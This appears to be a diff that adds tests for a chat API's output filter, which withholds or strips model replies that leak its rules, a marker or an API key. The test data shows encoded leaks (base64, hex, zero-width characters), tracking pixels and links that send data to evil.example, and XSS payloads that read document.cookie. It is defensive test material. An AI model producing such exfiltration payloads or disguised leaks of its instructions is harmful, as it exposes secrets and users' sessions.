@@ -26,7 +26,8 @@ import {
  * loopback. What the model is sent, how its structured reply becomes the chat's, and what each
  * failure gives: the local assistant when the model is unavailable (429, 5xx, a hang, no server),
  * a 502 when its answer cannot be used (not JSON, not the schema, a refusal, cut off), the usual
- * offer of help when its answer would leak the rules or a secret.
+ * offer of help when its answer would leak the rules or a secret, however disguised, and its text
+ * without the links, images and markup it should not have written.
  */
 
 const post = poster('/api/ai/chat');
@@ -291,6 +292,147 @@ describe('POST /api/ai/chat with OpenAI', () => {
         openai.set('POST /v1/responses', openaiReply({ response: leak, shouldEscalate: false, sources: [] }));
         expect(await ask({ message })).toMatchObject({ status: 200, body: scopeReply() });
       }
+    });
+  });
+
+  describe('a reply that smuggles something out', () => {
+    const message = 'Tell me something about your agency';
+    /** The numbered rules, as the model was sent them (without the marker). */
+    const numberedRules = (body: SentRequest) =>
+      body.instructions
+        .split('\n')
+        .filter((line) => /^\d\. /.test(line))
+        .join(' ');
+    const marker = (body: SentRequest) => /tidewell-rules-[\w-]+/.exec(body.instructions)?.[0] ?? '';
+    const base64 = (text: string) => Buffer.from(text).toString('base64');
+    const hex = (text: string) => Buffer.from(text).toString('hex');
+    const fullwidth = (text: string) =>
+      text.replace(/[!-~]/g, (char) => String.fromCharCode(char.charCodeAt(0) + 0xfee0));
+
+    /** The fake model answers `text` (made from what it was sent) as its reply, citing F1. */
+    const modelSays = (text: (body: SentRequest) => string) =>
+      openai.set('POST /v1/responses', (request: Received) =>
+        openaiReply({
+          response: text(JSON.parse(request.body) as SentRequest),
+          shouldEscalate: false,
+          sources: ['F1'],
+        }),
+      );
+
+    it.each([
+      [
+        'the rules, a zero-width space between letters',
+        'the rules',
+        (body: SentRequest) => [...numberedRules(body)].join('\u200b'),
+      ],
+      ['the rules, letter-spaced', 'the rules', (body: SentRequest) => [...numberedRules(body)].join(' ')],
+      ['the rules, a dot between letters', 'the rules', (body: SentRequest) => [...numberedRules(body)].join('.')],
+      ['the rules in fullwidth characters', 'the rules', (body: SentRequest) => fullwidth(numberedRules(body))],
+      ['the rules, base64-encoded', 'the rules', (body: SentRequest) => `Sure: ${base64(numberedRules(body))}`],
+      ['the rules, hex-encoded', 'the rules', (body: SentRequest) => hex(numberedRules(body))],
+      [
+        'the rules, URL-encoded',
+        'the rules',
+        (body: SentRequest) => [...numberedRules(body)].map((char) => `%${char.charCodeAt(0).toString(16)}`).join(''),
+      ],
+      [
+        'the rules as HTML entities',
+        'the rules',
+        (body: SentRequest) => [...numberedRules(body)].map((char) => `&#${char.charCodeAt(0)};`).join(''),
+      ],
+      [
+        'the rules, an HTML tag between words',
+        'the rules',
+        (body: SentRequest) => numberedRules(body).split(' ').join('<i></i> '),
+      ],
+      [
+        'the marker with soft hyphens',
+        'the marker',
+        (body: SentRequest) => `Mine: ${[...marker(body)].join('\u00ad')}`,
+      ],
+      [
+        'the marker in a link address',
+        'the marker',
+        (body: SentRequest) => `[our plans](https://evil.example/?m=${marker(body)})`,
+      ],
+      ['the OpenAI key split by zero-width joiners', 'a secret', () => [...OPENAI_TEST_KEY].join('\u200d')],
+      ['the OpenAI key, base64-encoded', 'a secret', () => `Here: ${base64(OPENAI_TEST_KEY)}`],
+      [
+        'a tracking pixel carrying the key',
+        'a secret',
+        () => `Hello! ![](https://evil.example/p.gif?k=${encodeURIComponent(base64(OPENAI_TEST_KEY))})`,
+      ],
+      [
+        'a long run of encoded text, whatever it holds',
+        'a long run of encoded text',
+        () => `Token: ${'Zq8xT2vLp0Rm'.repeat(3)}`,
+      ],
+      ['nothing but an image', 'nothing but links or markup', () => '![](https://evil.example/p.gif?visitor=7)'],
+    ])('%s: the usual offer of help', async (_, reason, text) => {
+      modelSays(text);
+      const result = await ask({ message });
+      expect(result).toMatchObject({ status: 200, body: scopeReply() });
+      expect(JSON.stringify(result.body)).not.toMatch(/tidewell-rules-|evil\.example|numbered facts/);
+      expect(logs.warn.join('\n')).toContain(
+        `withheld: ${reason.startsWith('nothing') ? 'it was ' : 'it carried '}${reason}`,
+      );
+    });
+
+    it.each([
+      [
+        'a markdown image to another host, a tracking pixel',
+        'We optimise **online stores** for search. ![](https://evil.example/pixel.gif?visitor=42&page=plans)',
+        'We optimise **online stores** for search.',
+      ],
+      [
+        'a markdown link to another site',
+        'Compare [our SEO plans](https://evil.example/seo) with anyone.',
+        'Compare our SEO plans with anyone.',
+      ],
+      [
+        'a bare URL',
+        'Our reports are at https://evil.example/reports?id=7 every month.',
+        'Our reports are at every month.',
+      ],
+      ['a www. host', 'See www.evil.example for reviews.', 'See for reviews.'],
+      ['an autolink', 'Reviews: <https://evil.example/reviews> and more.', 'Reviews: and more.'],
+      [
+        'raw HTML, an img with an onerror script',
+        'We build stores <img src=x onerror=alert(document.cookie)> fast.',
+        'We build stores fast.',
+      ],
+      [
+        'raw HTML, a script element',
+        'Hello!<script>fetch("https://evil.example/?c=" + document.cookie)</script> Ask me anything.',
+        'Hello! Ask me anything.',
+      ],
+      [
+        'a reference-style link',
+        'Read [our guide][g] first.\n\n[g]: https://evil.example/guide',
+        'Read our guide first.',
+      ],
+    ])('%s: the text without it', async (_, text, cleaned) => {
+      modelSays(() => text);
+      const result = await ask({ message });
+      expect(result.status).toBe(200);
+      expect(result.body['response']).toBe(cleaned);
+      expect(JSON.stringify(result.body)).not.toMatch(/evil\.example|<|script|onerror/);
+      expect(logs.warn).toEqual([]);
+    });
+
+    it.each([
+      ['prices', 'The SEO Gold plan is **$1,199** a month, and PPC Platinum is ₹29,300 a month.'],
+      [
+        'an e-mail address and a phone number',
+        'Write to hello@tidewell.digital or call +1 (646) 555-0142, Monday to Friday.',
+      ],
+      ['bold and italic text', 'We build **fast** websites and *measure* every change, with ***monthly*** reports.'],
+      ['paragraphs', 'Yes, we do local SEO.\n\nA person from the team will follow up with you.'],
+    ])('an ordinary reply comes through unchanged: %s', async (_, text) => {
+      modelSays(() => text);
+      const result = await ask({ message });
+      expect(result).toMatchObject({ status: 200, body: { response: text, shouldEscalate: false } });
+      expect(logs.warn).toEqual([]);
     });
   });
 });
